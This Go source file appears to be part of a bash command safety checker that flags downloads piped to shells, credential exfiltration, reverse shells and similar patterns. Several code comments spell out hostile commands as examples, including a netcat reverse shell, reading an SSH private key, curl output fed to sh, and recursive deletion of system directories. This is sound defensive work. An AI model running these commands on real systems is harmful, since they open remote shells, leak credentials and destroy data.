package safety

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// eff is what a judged command does with its standard streams and the network, as far as
// the rules that look across a pipeline or a substitution need to know.
type eff uint16

const (
	effFetch      eff = 1 << iota // writes content downloaded from the network to stdout
	effDecode                     // decodes stdin or a file to stdout (base64 -d, xxd -r)
	effShellStdin                 // runs code read from stdin (sh, bash -s, python -)
	effCredRead                   // writes a credential file to stdout
	effNetwork                    // talks to the network (and may send its stdin)
	effStdinCode                  // runs code from stdin that is not known (sh -i fed by a pipe or a file)
)

// source is the text being judged: the top-level command, or a nested script (sh -c,
// eval, trap, a here-document). Offsets of nodes in text map to the top-level string by
// adding base; when base < 0 the nested script is not a plain literal of the outer string
// and findings point at the outer command (outerOff, outerCmd).
type source struct {
	text     string
	base     int
	outerOff int
	outerCmd string
}

// analyzer holds the state of one Check call.
type analyzer struct {
	ctx      Context
	top      string
	src      source
	findings []Finding

	nodes  int
	depth  int
	shells int
	over   bool // budget exceeded: stop judging (a deny finding is already recorded)

	cwd      string                       // working directory; "" when unknown
	oldpwd   string                       // the previous working directory (cd -); "" when unknown
	oldSet   bool                         // OLDPWD has been set by a cd in this command
	dirs     []string                     // the pushd directory stack
	params   map[string]string            // positional parameters for the next nested script (sh -c S $0 $1 …)
	taint    map[string]eff               // variables holding downloaded, decoded or credential content
	links    map[string]string            // symbolic links made earlier in the command: link path → target
	fetched  map[string]bool              // files downloaded earlier in the command
	calls    []callEdge                   // calls made inside function bodies (for mutual-recursion fork bombs)
	funcCwd  map[string]string            // functions whose body changes the directory: name → directory ("" unknown)
	procText map[*syntax.ProcSubst]string // process substitutions whose output is known text
	written  map[string]string            // files written earlier in the command with known content (dyn when unknown)
	aliased  map[string]bool              // name references and their targets (declare -n): their values are never known
	refOpen  map[string]bool              // name references whose target is only known at run time
	cdpath   string                       // CDPATH set in this command ("" when not set; dyn when unknown)
	credCopy map[string]bool              // files and directories given credential content earlier in the command
	outSubst eff                          // effects of the >(…) process substitutions of the statement being judged
	pipeIn   eff                          // effects of the earlier stages of the pipeline whose stage is being judged

	curDialect Dialect           // dialect of the script being judged
	verb       string            // how the command being judged changes the paths it writes ("Deleting" …); "" is writing
	pipeText   string            // the literal output of the previous pipeline stage (echo 'x' | sh)
	pipeKnown  bool              // pipeText is known
	vars       map[string]string // shell variables assigned literally in this command
	funcs      map[string]bool   // functions defined in this command
	fstk       []string          // functions whose bodies are being judged
	pipe       bool              // judging a stage of a pipeline with more than one stage
	bg         bool              // judging a backgrounded statement

	argStack []arg       // argv of the simple commands being judged, as a stack
	free     []*callInfo // callInfo values to reuse

	ev evalState // what eval.go computes (alternatives of defaults)
}

// tick counts one node against the budget and reports whether judging may go on.
func (a *analyzer) tick() bool {
	if a.over {
		return false
	}
	a.nodes++
	if a.nodes > maxNodes || a.depth > maxDepth || a.shells > maxShellDepth {
		a.over = true
		a.addAt("budget.exceeded", Deny, 0, snippet(a.top, 0), "The command has too many parts or is nested too deeply")
		return false
	}
	return true
}

// add records a finding about the source range [pos, end) of the current source.
func (a *analyzer) add(id string, d Decision, pos, end int, detail string) {
	if end < pos {
		end = pos
	}
	if end > len(a.src.text) {
		end = len(a.src.text)
	}
	if pos > end {
		pos = end
	}
	if a.src.base >= 0 {
		a.addAt(id, d, a.src.base+pos, a.src.text[pos:end], detail)
		return
	}
	a.addAt(id, d, a.src.outerOff, a.src.outerCmd, detail)
}

// addNode records a finding about node n of the current source.
func (a *analyzer) addNode(id string, d Decision, n syntax.Node, detail string) {
	a.add(id, d, int(n.Pos().Offset()), int(n.End().Offset()), detail)
}

// addAt records a finding at an offset of the top-level command, once per rule and offset.
func (a *analyzer) addAt(id string, d Decision, off int, cmd, detail string) {
	for _, f := range a.findings {
		if f.Rule == id && f.Offset == off && f.Decision == d {
			return
		}
	}
	msg := a.ruleMessage(id)
	if strings.HasPrefix(id, "policy.") {
		msg = ""
	}
	if detail != "" {
		if msg != "" {
			msg = detail + ". " + msg
		} else {
			msg = detail
		}
	}
	if a.findings == nil {
		a.findings = make([]Finding, 0, 2)
	}
	a.findings = append(a.findings, Finding{Rule: id, Decision: d, Command: cmd, Offset: off, Message: msg})
}

// stmts judges a list of statements in order (the working directory carries over).
func (a *analyzer) stmts(list []*syntax.Stmt) eff {
	var e eff
	for _, s := range list {
		e |= a.stmt(s)
		if a.over {
			break
		}
	}
	return e
}

// sub judges statements in a subshell: changes of directory and variables stay inside.
func (a *analyzer) sub(list []*syntax.Stmt) eff {
	cwd, old, oldSet, dirs, vars := a.cwd, a.oldpwd, a.oldSet, a.dirs, a.vars
	if vars != nil {
		a.vars = copyVars(vars)
	}
	a.dirs = append([]string(nil), dirs...)
	e := a.stmts(list)
	a.cwd, a.oldpwd, a.oldSet, a.dirs, a.vars = cwd, old, oldSet, dirs, vars
	return e
}

func copyVars(m map[string]string) map[string]string {
	c := make(map[string]string, len(m))
	for k, v := range m {
		c[k] = v
	}
	return c
}

// stdin describes what a statement's redirections feed to its command's standard input.
type stdin struct {
	body     string // a here-document or here-string body, when literal
	literal  bool   // body is known
	mapBase  int    // offset of body in the current source, or -1
	net      bool   // the body comes from the network or a decoder
	cred     bool   // stdin is a credential file
	hasInput bool   // some redirection feeds stdin
	hereStr  bool   // body is a here-string's word, which bash feeds with a newline added
}

// stmt judges one statement: its redirections and its command.
func (a *analyzer) stmt(s *syntax.Stmt) eff {
	if !a.tick() {
		return 0
	}
	a.depth++
	defer func() { a.depth-- }()
	bg := a.bg
	outer := a.outSubst
	a.outSubst = 0
	if s.Background || s.Coprocess || s.Disown {
		a.addNode("background.job", Ask, s, "This runs in the background")
		a.bg = true
	}
	var in stdin
	for _, r := range s.Redirs {
		a.redirect(r, &in)
	}
	var e eff
	if s.Background || s.Coprocess {
		// A background job runs in a subshell: its cd and assignments stay there.
		cwd, old, oldSet, vars := a.cwd, a.oldpwd, a.oldSet, a.vars
		if vars != nil {
			a.vars = copyVars(vars)
		}
		e = a.command(s, &in)
		a.cwd, a.oldpwd, a.oldSet, a.vars = cwd, old, oldSet, vars
	} else {
		e = a.command(s, &in)
	}
	a.bg = bg
	if s.Cmd == nil && in.cred {
		e |= effCredRead // $(< ~/.ssh/id_rsa) prints the file
	}
	if len(s.Redirs) > 0 {
		a.recordWritten(s, e)
	}
	if out := a.outSubst; out != 0 {
		// curl URL > >(sh), curl URL | tee >(sh): a >(…) substitution reads what the
		// command writes (or, for tee, what it reads).
		data := e | a.pipeIn
		if out&effShellStdin != 0 && data&(effFetch|effDecode) != 0 {
			a.addNode("network.pipe-to-shell", Deny, s, "Downloaded or decoded content is fed to a shell through a process substitution")
		}
		if out&effNetwork != 0 && data&effCredRead != 0 {
			a.addNode("exfil.credential", Deny, s, "A credential file is fed to a network command through a process substitution")
		}
	}
	a.outSubst = outer
	return e
}

// command judges the command of statement s.
func (a *analyzer) command(s *syntax.Stmt, in *stdin) eff {
	switch x := s.Cmd.(type) {
	case nil:
		return 0
	case *syntax.CallExpr:
		return a.call(x, in)
	case *syntax.BinaryCmd:
		switch x.Op {
		case syntax.Pipe, syntax.PipeAll:
			return a.pipeline(x)
		default:
			// X && Y, X || Y: Y may not run, so what it assigns is not known after it.
			e := a.stmt(x.X)
			return e | a.branch(func() eff { return a.stmt(x.Y) })
		}
	case *syntax.Block:
		return a.stmts(x.Stmts)
	case *syntax.Subshell:
		return a.sub(x.Stmts)
	case *syntax.IfClause:
		var e eff
		for c := x; c != nil; c = c.Else {
			if c == x {
				e |= a.stmts(c.Cond)
			} else {
				e |= a.branch(func() eff { return a.stmts(c.Cond) })
			}
			e |= a.branch(func() eff { return a.stmts(c.Then) })
		}
		return e
	case *syntax.WhileClause:
		if e, ok := a.whileRead(x, in); ok {
			return e
		}
		e := a.stmts(x.Cond)
		return e | a.branch(func() eff { return a.stmts(x.Cond) | a.stmts(x.Do) })
	case *syntax.ForClause:
		var e eff
		switch l := x.Loop.(type) {
		case *syntax.WordIter:
			var items []arg
			for _, w := range l.Items {
				items = a.word(items, w, false)
			}
			for _, x := range items {
				if x.net {
					e |= effFetch
				}
			}
			// A short list of known items: judge the body once for each value, so that
			// for d in /etc /usr; do rm -rf $d; done is judged with the real paths.
			if n := len(items); n > 0 && n <= maxLoopItems && !anyDyn(items) && !anyGlob(items) {
				cwd := a.cwd
				for _, it := range items {
					if a.vars == nil {
						a.vars = map[string]string{}
					}
					a.vars[l.Name.Value] = it.s
					a.cwd = cwd
					e |= a.branch(func() eff { return a.stmts(x.Do) })
				}
				a.forget(l.Name.Value)
				return e
			}
			a.forget(l.Name.Value)
		case *syntax.CStyleLoop:
			a.arith(l.Init)
			a.arith(l.Cond)
			a.arith(l.Post)
		default:
			a.addNode("parse.unknown-node", Ask, s, "Unknown loop form")
		}
		return e | a.branch(func() eff { return a.stmts(x.Do) })
	case *syntax.CaseClause:
		e := a.wordEffects(x.Word)
		for _, it := range x.Items {
			for _, p := range it.Patterns {
				e |= a.wordEffects(p)
			}
			e |= a.branch(func() eff { return a.stmts(it.Stmts) })
		}
		return e
	case *syntax.FuncDecl:
		a.funcDecl(x)
		return 0
	case *syntax.ArithmCmd:
		a.arith(x.X)
		return 0
	case *syntax.TestClause:
		a.test(x.X)
		return 0
	case *syntax.DeclClause:
		a.decl(x)
		return 0
	case *syntax.LetClause:
		c := a.newCall(int(x.Pos().Offset()), int(x.End().Offset()))
		for _, ex := range x.Exprs {
			if w, ok := ex.(*syntax.Word); ok {
				var buf [2]arg
				for _, v := range a.word(buf[:0], w, false) {
					a.subscriptCode(v, c)
				}
				continue
			}
			a.arith(ex)
		}
		a.freeCall(c)
		return 0
	case *syntax.TimeClause:
		if x.Stmt == nil {
			return 0
		}
		return a.stmt(x.Stmt)
	case *syntax.CoprocClause:
		a.addNode("background.job", Ask, x, "coproc runs a command in the background")
		bg := a.bg
		a.bg = true
		e := a.stmt(x.Stmt)
		a.bg = bg
		return e
	default:
		a.addNode("parse.unknown-node", Ask, s, "This statement kind is not judged")
		return 0
	}
}

// pipeline judges the stages of a pipeline, each in its own subshell, and the rules that
// look across stages: downloaded or decoded content piped into a shell or interpreter, and
// credential files piped to a network command.
func (a *analyzer) pipeline(x *syntax.BinaryCmd) eff {
	var stages []*syntax.Stmt
	var flatten func(s *syntax.Stmt)
	flatten = func(s *syntax.Stmt) {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && len(s.Redirs) == 0 && !s.Negated && !s.Background {
			flatten(b.X)
			flatten(b.Y)
			return
		}
		stages = append(stages, s)
	}
	flatten(x.X)
	flatten(x.Y)
	var before, all eff
	pipe := a.pipe
	a.pipe = true
	for i, st := range stages {
		cwd := a.cwd
		if i > 0 {
			a.pipeText, a.pipeKnown = literalOutput(a, stages[i-1])
		}
		a.pipeIn = before
		e := a.stmt(st)
		a.pipeIn = 0
		a.pipeText, a.pipeKnown = "", false
		a.cwd = cwd
		if e&effShellStdin != 0 && before&(effFetch|effDecode) != 0 {
			a.addNode("network.pipe-to-shell", Deny, st, "Downloaded or decoded content is piped into a shell or interpreter")
		}
		if e&effNetwork != 0 && before&effCredRead != 0 {
			a.addNode("exfil.credential", Deny, st, "A credential file is piped to a network command")
		}
		if e&effNetwork != 0 && before&effStdinCode != 0 {
			// cat /tmp/f | sh -i 2>&1 | nc host 1 > /tmp/f
			a.addNode("network.reverse-shell", Deny, st, "A shell that runs commands from its input sends its output to a network command")
		}
		before |= e
		all |= e
	}
	a.pipe = pipe
	return all
}

// maxLoopItems is the longest list of known items a for loop body is judged for, once per
// item; longer lists judge the body once with the variable unknown.
const maxLoopItems = 8

func anyDyn(xs []arg) bool {
	for _, x := range xs {
		if x.dyn || x.proc {
			return true
		}
	}
	return false
}

func anyGlob(xs []arg) bool {
	for _, x := range xs {
		if x.glob {
			return true
		}
	}
	return false
}

// funcDecl judges a function body once, as if the function were called, and checks that its
// name does not shadow a command.
func (a *analyzer) funcDecl(x *syntax.FuncDecl) {
	names := x.Names
	if x.Name != nil {
		names = append([]*syntax.Lit{x.Name}, names...)
	}
	if a.funcs == nil {
		a.funcs = map[string]bool{}
	}
	for _, n := range names {
		if shadows(n.Value) {
			a.addNode("function.shadow", Ask, x, "The function "+n.Value+" has the name of a command")
		}
		a.funcs[n.Value] = true
		a.recordFunc(n.Value, x.Body)
		a.fstk = append(a.fstk, n.Value)
	}
	if x.Body != nil {
		cwd := a.cwd
		// The body runs when the function is called, maybe never: what it assigns is not
		// known after the definition.
		a.branch(func() eff { return a.stmt(x.Body) })
		if a.cwd != cwd {
			// Calling the function changes the directory of the caller.
			if a.funcCwd == nil {
				a.funcCwd = map[string]string{}
			}
			for _, n := range names {
				a.funcCwd[n.Value] = a.cwd
			}
		}
		a.cwd = cwd
	}
	a.fstk = a.fstk[:len(a.fstk)-len(names)]
}

// shadows reports whether a function or alias name is the name of a known command or a
// shell builtin.
func shadows(name string) bool {
	if _, ok := commands[name]; ok {
		return true
	}
	return false
}

// forget marks a shell variable as unknown.
func (a *analyzer) forget(name string) {
	if a.vars != nil {
		delete(a.vars, name)
	}
	if a.vars == nil {
		a.vars = map[string]string{}
	}
	a.vars[name] = "\x00"
}

// arith walks an arithmetic expression for substitutions.
func (a *analyzer) arith(x syntax.ArithmExpr) {
	if x == nil {
		return
	}
	a.depth++
	defer func() { a.depth-- }()
	if !a.tick() {
		return
	}
	switch n := x.(type) {
	case *syntax.BinaryArithm:
		a.arith(n.X)
		a.arith(n.Y)
	case *syntax.UnaryArithm:
		a.arith(n.X)
	case *syntax.ParenArithm:
		a.arith(n.X)
	case *syntax.FlagsArithm:
		a.arith(n.X)
	case *syntax.Word:
		a.wordEffects(n)
		a.arithOperand(n)
	default:
		a.addNode("parse.unknown-node", Ask, x, "This arithmetic expression is not judged")
	}
}

// arithOperand judges the value bash evaluates again for an arithmetic operand: a variable
// named by the operand (x, $x, ${x}) whose known value is itself an expression, where
// a[$(cmd)] runs cmd (x='a[$(id)]'; (( x ))). Names are followed as bash follows them.
func (a *analyzer) arithOperand(w *syntax.Word) {
	name := w.Lit()
	if len(w.Parts) == 1 {
		if pe, ok := w.Parts[0].(*syntax.ParamExp); ok && pe.Param != nil && pe.Exp == nil && pe.Index == nil && !pe.Excl && !pe.Length && pe.Repl == nil && pe.Slice == nil {
			name = pe.Param.Value
		}
	}
	for range 8 {
		if !validName(name) {
			return
		}
		v, ok := a.paramValue(name)
		if !ok {
			return
		}
		if evaluated(v) {
			a.evalCode(v, w)
			return
		}
		name = strings.TrimSpace(v)
	}
}

// evaluated reports whether text that bash evaluates again holds command substitutions.
func evaluated(v string) bool {
	return strings.Contains(v, "$(") || strings.Contains(v, "`") || strings.Contains(v, "$[")
}

// evalCode judges the command substitutions in v, a value bash evaluates again when it
// expands node (an arithmetic operand, ${!x}, ${x@P}).
func (a *analyzer) evalCode(v string, node syntax.Node) {
	c := a.newCall(int(node.Pos().Offset()), int(node.End().Offset()))
	defer a.freeCall(c)
	a.subscriptCode(lit(v), c)
}

// test walks a [[ ]] expression for substitutions.
func (a *analyzer) test(x syntax.TestExpr) {
	if x == nil {
		return
	}
	a.depth++
	defer func() { a.depth-- }()
	if !a.tick() {
		return
	}
	switch n := x.(type) {
	case *syntax.BinaryTest:
		a.test(n.X)
		a.test(n.Y)
		switch n.Op {
		case syntax.TsEql, syntax.TsNeq, syntax.TsLss, syntax.TsLeq, syntax.TsGtr, syntax.TsGeq:
			// [[ $x -eq 1 ]] evaluates both operands as arithmetic expressions.
			for _, t := range []syntax.TestExpr{n.X, n.Y} {
				if w, ok := t.(*syntax.Word); ok {
					a.arithOperand(w)
				}
			}
		}
	case *syntax.UnaryTest:
		if w, ok := n.X.(*syntax.Word); ok && n.Op == syntax.TsVarSet {
			c := a.newCall(int(n.Pos().Offset()), int(n.End().Offset()))
			var buf [2]arg
			for _, v := range a.word(buf[:0], w, false) {
				a.subscriptCode(v, c)
			}
			a.freeCall(c)
			return
		}
		a.test(n.X)
	case *syntax.ParenTest:
		a.test(n.X)
	case *syntax.Word:
		a.wordEffects(n)
	default:
		a.addNode("parse.unknown-node", Ask, x, "This test expression is not judged")
	}
}

// wordEffects evaluates a word only for the substitutions it runs.
func (a *analyzer) wordEffects(w *syntax.Word) eff {
	if w == nil {
		return 0
	}
	var buf [4]arg
	args := a.word(buf[:0], w, false)
	var e eff
	for _, x := range args {
		if x.net {
			e |= effFetch
		}
	}
	return e
}
